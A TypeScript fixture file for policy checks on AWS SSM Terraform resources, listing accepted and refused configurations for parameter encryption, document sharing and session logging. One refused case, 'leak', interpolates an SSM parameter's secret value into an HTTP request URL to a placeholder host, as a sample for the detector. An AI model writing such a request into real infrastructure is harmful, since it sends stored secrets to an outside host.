import { KEY_ARN, single, type CheckFixture } from '../describe-checks';

const session = (inputs: Record<string, unknown>) => ({
  document_type: 'Session',
  content: JSON.stringify({
    inputs: { kmsKeyId: 'arn', cloudWatchLogGroupName: 'g', cloudWatchEncryptionEnabled: true, ...inputs },
  }),
});

/** What each check must accept and refuse. */
export const SSM_FIXTURES: Readonly<Record<string, CheckFixture>> = {
  'ssm-param-encrypted': single(
    'aws_ssm_parameter',
    { type: 'SecureString', key_id: KEY_ARN },
    { plain: { type: 'String' }, 'AWS’s key': { type: 'SecureString' } },
  ),
  'ssm-no-http-leak': {
    good: [{}, { 'data.http': { h: { url: 'https://example.com' } } }],
    bad: {
      leak: { 'data.http': { h: { url: 'https://example.com/?q=${data.aws_ssm_parameter.p.value}' } } },
    },
  },
  'ssm-document-private': single(
    'aws_ssm_document',
    { permissions: { type: 'Share', account_ids: '222222222222' } },
    { shared: { permissions: { type: 'Share', account_ids: 'All' } } },
  ),
  'ssm-session-logging': single('aws_ssm_document', session({}), {
    'no key': session({ kmsKeyId: '' }),
    'not logged': session({ cloudWatchLogGroupName: undefined }),
    'not encrypted': session({ cloudWatchEncryptionEnabled: false }),
    'not to be read': { document_type: 'Session', content: 'nonsense' },
  }),
};
